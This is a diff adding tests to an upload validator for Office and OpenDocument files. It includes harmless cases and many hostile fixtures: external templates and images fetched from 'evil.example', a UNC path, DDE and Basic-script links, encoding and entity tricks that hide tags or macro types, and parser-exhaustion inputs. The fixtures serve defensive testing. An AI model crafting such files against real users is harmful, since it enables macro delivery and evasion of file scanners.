@@ -74,6 +74,30 @@ describe("a file of an allowed type is taken, under its own name and our content
     expect(fault).toBeNull();
   });
 
+  test.each([
+    "https://example.org/?a>b",
+    "https://example.org/?a&gt;b",
+    "https://example.org/?Type='x/attachedTemplate'",
+  ])("a hyperlink to %s is fine", async (target) => {
+    const rels = relationships(`TargetMode="External" Target="${target}" Type="x/hyperlink"`);
+    const part = { name: "word/_rels/document.xml.rels", data: rels };
+    expect((await check("a.docx", officeFile("docx", [part]))).fault).toBeNull();
+  });
+
+  test("a large spreadsheet with signs of comparison in its formulas is fine", async () => {
+    const rows = Array.from(
+      { length: 60_000 },
+      (_, row) => `<table:table-cell table:formula="of:=IF([.A${row}]>${row};&quot;a&quot;;0)"/>`,
+    );
+    const part = { name: "content.xml", data: `<office:body>${rows.join("\n")}</office:body>` };
+    expect((await check("a.ods", openDocument("spreadsheet", [part]))).fault).toBeNull();
+  });
+
+  test("a drawing in one long attribute is fine", async () => {
+    const part = { name: "content.xml", data: `<x><draw:path svg:d="${"M1,2 ".repeat(300_000)}"/></x>` };
+    expect((await check("a.odt", openDocument("text", [part]))).fault).toBeNull();
+  });
+
   test("a tightly packed table is no bomb while it is small", async () => {
     const sheet = {
       name: "xl/worksheets/sheet1.xml",
@@ -245,6 +269,144 @@ describe("a file that is not what its name says, or that does something, is refu
       "a.docx",
       () => officeFile("docx", external(`Type="${template}" Target="x" TargetMode="&#69;xternal"`)),
       /from outside/,
+    ],
+    [
+      "a template whose address ends a tag",
+      "a.docx",
+      () =>
+        officeFile(
+          "docx",
+          external(`Type="${template}" Target="http://evil.example/x.dotm?>" TargetMode="External"`),
+        ),
+      /from outside/,
+    ],
+    [
+      "a template whose address speaks of a hyperlink",
+      "a.docx",
+      () =>
+        officeFile(
+          "docx",
+          external(
+            `Target="http://evil.example/Type='x/hyperlink'" Type="${template}" TargetMode="External"`,
+          ),
+        ),
+      /from outside/,
+    ],
+    [
+      "a template under another prefix",
+      "a.docx",
+      () =>
+        officeFile("docx", [
+          {
+            name: "word/_rels/settings.xml.rels",
+            data: `<p:Relationships xmlns:p="x"><p:Relationship Type="${template}" Target="x" TargetMode="External"/></p:Relationships>`,
+          },
+        ]),
+      /from outside/,
+    ],
+    [
+      "a template in a part of UTF-16",
+      "a.docx",
+      () =>
+        officeFile("docx", [
+          {
+            name: "word/_rels/settings.xml.rels",
+            data: Buffer.from(
+              `\ufeff<r><Relationship Type="${template}" Target="x" TargetMode="External"/></r>`,
+              "utf16le",
+            ),
+          },
+        ]),
+      /from outside/,
+    ],
+    [
+      "relations in an encoding that hides its tags",
+      "a.docx",
+      () =>
+        officeFile("docx", [
+          {
+            name: "word/_rels/settings.xml.rels",
+            data: '<?xml version="1.0" encoding="UTF-7"?><r>+ADw-Relationship TargetMode=+ACI-External+ACI-/+AD4-</r>',
+          },
+        ]),
+      /damaged/,
+    ],
+    [
+      "a template in a part with two names",
+      "a.docx",
+      () =>
+        officeFile(
+          "docx",
+          external(`Type="${template}" Target="x" TargetMode="External"`).map((part) => ({
+            ...part,
+            unicodePath: "word/media/a.png",
+          })),
+        ),
+      /damaged/,
+    ],
+    [
+      "macros under a type in numbered letters",
+      "a.docx",
+      () =>
+        officeFile("docx", [
+          {
+            name: "[Content_Types].xml",
+            data: '<Types><Override ContentType="application/vnd.ms-word.document.macr&#111;Enabled.main+xml"/></Types>',
+          },
+        ]),
+      /macros/,
+    ],
+    ...[
+      "<draw:image xlink:href='http://evil.example/a.png'/>",
+      '<draw:image xlink:href="&#104;ttp://evil.example/a.png"/>',
+      '<draw:frame draw:name="a>b" xlink:href="http://evil.example/a.png"/>',
+      '<d:image y:href=" //evil.example/a.png"/>',
+      '<text:section-source xlink:href="\\\\evil.example\\a.odt"/>',
+      "<text:dde-connection-decl/>",
+    ].map((tag): (typeof HOSTILE)[number] => [
+      `an OpenDocument with ${tag}`,
+      "a.odt",
+      () => openDocument("text", [{ name: "content.xml", data: `<x>${tag}</x>` }]),
+      /from outside/,
+    ]),
+    [
+      "an OpenDocument with an attribute that is not well formed",
+      "a.odt",
+      () =>
+        openDocument("text", [
+          { name: "content.xml", data: '<draw:image xlink:href = "http://evil.example/a.png"/>' },
+        ]),
+      /damaged/,
+    ],
+    [
+      "a picture elsewhere in an object of an OpenDocument",
+      "a.odt",
+      () =>
+        openDocument("text", [
+          { name: "Object 1/content.xml", data: '<draw:image xlink:href="http://evil.example/a.png"/>' },
+        ]),
+      /from outside/,
+    ],
+    [
+      "a script behind a link of an OpenDocument",
+      "a.odt",
+      () =>
+        openDocument("text", [
+          { name: "content.xml", data: '<text:a xlink:href="vnd.sun.star.script:a?language=Basic"/>' },
+        ]),
+      /macros/,
+    ],
+    [
+      "a tag that never ends",
+      "a.odt",
+      () => openDocument("text", [{ name: "content.xml", data: "<a ".repeat(2_000_000) }]),
+      /damaged/,
+    ],
+    [
+      "tags far too deep within each other",
+      "a.odt",
+      () => openDocument("text", [{ name: "content.xml", data: "<a>".repeat(1001) + "</a>".repeat(1001) }]),
+      /damaged/,
     ],
     [
       "a picture elsewhere in an OpenDocument",
